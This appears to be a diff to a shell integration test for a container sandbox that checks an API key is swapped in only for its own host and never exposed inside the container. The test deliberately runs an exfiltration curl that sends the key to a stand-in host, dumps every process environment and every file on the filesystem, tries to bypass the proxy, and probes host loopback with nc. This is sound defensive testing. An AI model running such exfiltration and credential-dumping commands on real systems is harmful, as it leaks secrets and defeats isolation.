@@ -16,8 +16,10 @@ set -euo pipefail
 
 here=$(cd "$(dirname "$0")" && pwd)
 test_name=podman-secrets
+# api.anthropic.com:443 goes to the test server's port (like curl --connect-to), so
+# clients inside use the real URL; TLS_PORT is filled in once the server listens.
 extra_config='[network]
-resolve = { "api.anthropic.com" = "127.0.0.1", "other.test" = "127.0.0.1" }'
+resolve = { "api.anthropic.com:443" = "127.0.0.1:TLS_PORT", "other.test" = "127.0.0.1" }'
 # shellcheck source=session_env.sh
 source "$here/session_env.sh"
 
@@ -66,6 +68,7 @@ upstream_pid=$!
 trap 'status=$?; kill $upstream_pid 2>/dev/null; (exit $status); cleanup' EXIT
 for _ in $(seq 1 50); do [ -s "$work/ports" ] && break; sleep 0.1; done
 read -r tls_port plain_port < "$work/ports" || fail "the upstream did not start: $(cat "$work/upstream.err")"
+sed -i "s/TLS_PORT/$tls_port/" "$XDG_CONFIG_HOME/handler/config.toml"
 
 # handlerd verifies upstreams against the system store; for this test that is the test CA.
 SSL_CERT_FILE="$pki/ca.crt" handlerd --detach >/dev/null || fail "handlerd did not start"
@@ -82,13 +85,13 @@ echo "== the key is swapped in on its own host only, and never enters the contai
 set +e
 inside=$(handler run coder -p "
   echo stand-in=\$ANTHROPIC_API_KEY
-  echo answer=\$(curl -sS https://api.anthropic.com:$tls_port/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
+  echo answer=\$(curl -sS https://api.anthropic.com/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
   # Only the system trust store (the mounted bundle), none of the variables:
   echo system-store=\$(env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{http_code}' \
-    https://api.anthropic.com:$tls_port/v1/models -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1)
+    https://api.anthropic.com/v1/models -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1)
   echo exfiltration=\$(curl -sS http://other.test:$plain_port/collect -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1)
   echo bypass=\$(env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 3 -o /dev/null \
-    -w '%{http_code}' https://api.anthropic.com:$tls_port/ 2>&1)
+    -w '%{http_code}' https://api.anthropic.com/ 2>&1)
   cat /proc/[0-9]*/environ > env.dump 2>/dev/null
   find / -xdev -type f 2>/dev/null | while read -r f; do cat \"\$f\"; done > files.dump 2>/dev/null
   cat /run/handler/* > control.dump 2>/dev/null
@@ -131,7 +134,7 @@ api_port=$(handler status --json | python3 -c 'import json,sys; print(json.load(
 before=$(grep -c "\"key\": \"$real_key\"" "$work/upstream.log")
 open_mode=$(handler run coder --network open -p "
   echo interfaces=\$(ls /sys/class/net | tr '\n' ' ')
-  echo answer=\$(curl -sS https://api.anthropic.com:$tls_port/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
+  echo answer=\$(curl -sS https://api.anthropic.com/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
   if nc -w 2 10.0.2.2 $api_port </dev/null; then echo host-loopback=open; else echo host-loopback=closed; fi" 2>&1) ||
   fail "the open-mode session failed: $open_mode"
 echo "$open_mode"
